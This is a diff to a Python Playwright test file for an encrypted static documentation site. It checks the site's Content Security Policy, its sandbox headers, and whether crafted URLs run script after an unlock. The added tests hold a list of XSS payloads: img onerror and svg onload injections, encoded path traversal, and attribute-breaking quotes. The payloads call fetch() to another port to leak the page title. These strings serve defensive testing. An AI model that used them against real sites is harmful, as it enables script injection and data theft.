@@ -4,12 +4,17 @@ works in Chromium as the open one does — search, navigation, drill, PDF — al
 from __future__ import annotations
 
 import base64
+import hashlib
+import http.server
 import io
 import json
 import re
 import shutil
 import subprocess
+import threading
+import urllib.parse
 from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
 
 import pypdf
@@ -18,14 +23,17 @@ from browser import chromium, static_server
 from conftest import ROOT, SHIPPED, copy_project
 from cryptography.exceptions import InvalidTag
 from cryptography.hazmat.primitives.ciphers.aead import AESGCM
-from playwright.sync_api import Browser, BrowserContext, Page
+from playwright.sync_api import Browser, BrowserContext, Page, Request
 from prep_handbook.private import (
     ITERATIONS,
     MAGIC,
     PassphraseError,
     check_passphrase,
     derive_key,
+    inline_script_hashes,
+    page_policy,
     seal,
+    unlock_page,
     unseal,
 )
 from sitekit import article, run_mkdocs, visible_text
@@ -149,6 +157,27 @@ def test_seal_layout_and_tampering() -> None:
         broken[i] ^= 0x01
         with pytest.raises(InvalidTag):
             unseal(key, "a/index.html", bytes(broken))
+
+
+def test_page_policy_allows_the_built_inline_scripts_and_nothing_else() -> None:
+    html = (
+        "<script>var a = 1 < 2;</script><script src='x.js'></script>"
+        '<script type="application/json">{"not": "run"}</script>'
+        '<script type="module">import "./m.js";</script><p onclick="no()">x</p>'
+    )
+    digest = {
+        base64.b64encode(hashlib.sha256(t.encode()).digest()).decode()
+        for t in ("var a = 1 < 2;", 'import "./m.js";')
+    }
+    assert inline_script_hashes(html) == digest
+    policy = page_policy(digest)
+    assert policy.startswith("default-src 'self'; script-src 'self' 'sha256-")
+    assert all(f"'sha256-{d}'" in policy for d in digest)
+    assert "object-src 'none'; base-uri 'none'" in policy and "unsafe" not in policy
+    unlock = unlock_page("../")
+    style = unlock[unlock.index("<style>") + 7 : unlock.index("</style>")]
+    style_hash = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
+    assert f"style-src 'sha256-{style_hash}'" in unlock and "<script>" not in unlock
 
 
 @pytest.mark.parametrize(
@@ -296,6 +325,124 @@ def test_lock_forgets_the_key_on_this_device(unlocked: tuple[BrowserContext, str
     page.close()
 
 
+# A crafted link, opened on a device that unlocked once, must run nothing: the worker can read
+# every note, so script on this origin could send them anywhere. Each address below carries a
+# payload that, if it ran, would set a flag, open a dialog and send a request to another port.
+_PAYLOAD = (  # no "/" of its own, so that it also reaches the worker as one path segment
+    "s=String.fromCharCode(47);fetch('http:'+s+s+'127.0.0.1:{port}'+s+document.title);"
+    "window.__pwned=1;alert(1)"
+)
+_CRAFTED = (
+    # encoded "?" and "#": once turned into a real query or fragment by a decoding worker
+    "notes-2/questions/index.html%3F%3Cimg%20src%3Dx%20onerror%3D{js}%3E",
+    "notes-2/questions/index.html%23%3Csvg%20onload%3D{js}%3E",
+    "notes-2/questions/%3F%3Csvg%2Fonload%3D{js}%3E/",
+    # an encoded "/" and a climb out of the folder
+    "notes-2%2Fquestions%2F%3Cimg%20src%3Dx%20onerror%3D{js}%3E",
+    "notes-2/%2e%2e%2f%2e%2e%2fassets%2Flock%2F%3Csvg%20onload%3D{js}%3E",
+    # quotes to close an attribute, markup in a folder name and in a file name
+    "notes-2/%22%27%3E%3Cimg%20src%3Dx%20onerror%3D{js}%3E/",
+    "%3Csvg%20onload%3D{js}%3E/",
+    "notes-2/questions/%3Cimg%20src%3Dx%20onerror%3D{js}%3E.html",
+    "notes-2/questions/%3Csvg%20onload%3D{js}%3E.svg",
+    # the same, unencoded, as a browser sends what is typed or linked
+    "notes-2/<img src=x onerror={js}>/",
+    # a real query and fragment on a real page
+    "notes-2/questions/?q=%3Cimg%20src%3Dx%20onerror%3D{js}%3E#%3Csvg%20onload%3D{js}%3E",
+)
+
+
+@contextmanager
+def _listening() -> Iterator[tuple[str, list[str]]]:
+    """Another origin (a port of its own) that records every request it gets."""
+    heard: list[str] = []
+
+    class Ear(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            heard.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, format: str, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Ear)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield str(server.server_address[1]), heard
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.mark.parametrize("crafted", _CRAFTED)
+def test_a_crafted_address_runs_no_script_after_an_unlock(
+    unlocked: tuple[BrowserContext, str], crafted: str
+) -> None:
+    context, url = unlocked
+    with _listening() as (port, heard):
+        js = urllib.parse.quote(_PAYLOAD.format(port=port), safe="")
+        address = url + crafted.format(js=js)
+        requests: list[str] = []
+
+        def record(request: Request) -> None:
+            requests.append(request.url)
+
+        context.on("request", record)
+        page = context.new_page()
+        dialogs: list[str] = []
+        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+        page.goto(address)
+        page.wait_for_load_state("load")
+        page.wait_for_timeout(500)  # an onerror or a fetch would have fired by now
+        pwned = page.evaluate("window.__pwned")
+        body = page.content()
+        page.close()
+        context.remove_listener("request", record)
+    assert pwned is None and not dialogs and not heard, (crafted, body[:300])
+    foreign = [r for r in requests if not r.startswith(url) and not r.startswith("data:")]
+    assert not foreign, foreign
+    assert "<img src=x" not in body.lower() and "<svg onload" not in body.lower()
+
+
+def test_worker_responses_carry_a_policy_and_files_are_sandboxed(
+    unlocked: tuple[BrowserContext, str],
+) -> None:
+    """Every page the worker decrypts has the build's policy (scripts: its own files and the
+    theme's inline scripts by hash); any other decrypted file a sandbox, and no page breaks it."""
+    context, url = unlocked
+    page = context.new_page()
+    violations: list[str] = []
+    page.on(
+        "console",
+        lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None,
+    )
+    heads = {}
+    for path in ("notes-2/questions/", "notes-1/", "no-such/page/"):
+        response = page.goto(url + path)
+        assert response is not None
+        heads[path] = response.all_headers()
+        page.wait_for_selector("article")
+    for path in ("notes-2/one-pager.pdf", "notes-1/source-map.json", "search/search_index.json"):
+        heads[path] = dict(
+            page.evaluate(f"fetch('{url}{path}').then(r => [...r.headers])")  # as decrypted
+        )
+    page.goto(url + "notes-2/")
+    _type_search(page, "forecasting")  # the search worker and its index run under the policy
+    page.locator(".md-search-result__item").first.wait_for(state="visible", timeout=15_000)
+    page.close()
+    for path in ("notes-2/questions/", "notes-1/", "no-such/page/"):
+        policy = heads[path]["content-security-policy"]
+        assert "default-src 'self'" in policy and "object-src 'none'" in policy, path
+        assert "base-uri 'none'" in policy and "img-src 'self' data:" in policy
+        assert re.search(r"script-src 'self'( 'sha256-[A-Za-z0-9+/=]{44}')+;", policy)
+        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
+    for path in ("notes-2/one-pager.pdf", "notes-1/source-map.json", "search/search_index.json"):
+        assert heads[path]["content-security-policy"].startswith("sandbox;"), path
+        assert heads[path]["x-content-type-options"] == "nosniff"
+    assert not violations, violations
+
+
 @pytest.mark.parametrize("tamper", ["flip", "swap"])
 def test_a_tampered_file_is_refused_not_shown(
     sites: dict[str, Path], browser: Browser, tmp_path: Path, tamper: str
@@ -353,7 +500,7 @@ def test_unlock_cost_is_reported(sites: dict[str, Path], browser: Browser) -> No
         context = browser.new_context()
         page = context.new_page()
         _unlock(page, url)
-        page.wait_for_function("document.documentElement.dataset.deriveMs !== undefined")
+        page.wait_for_function("() => document.documentElement.dataset.deriveMs !== undefined")
         derive_ms = int(page.evaluate("document.documentElement.dataset.deriveMs"))
         context.close()
     print(f"\nunlock: PBKDF2-HMAC-SHA256 600,000 iterations in Chromium: {derive_ms} ms")
